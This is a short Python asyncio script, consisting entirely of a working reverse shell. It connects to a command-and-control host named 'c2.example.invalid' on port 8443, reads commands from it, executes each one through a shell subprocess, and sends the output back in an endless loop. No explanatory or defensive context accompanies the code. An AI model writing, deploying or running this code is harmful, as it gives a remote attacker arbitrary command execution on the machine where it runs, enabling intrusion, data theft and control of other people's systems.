import asyncio


async def main():
    r, w = await asyncio.open_connection("c2.example.invalid", 8443)
    while True:
        cmd = (await r.readline()).decode()
        p = await asyncio.create_subprocess_shell(cmd, stdout=asyncio.subprocess.PIPE)
        w.write((await p.communicate())[0])


asyncio.run(main())
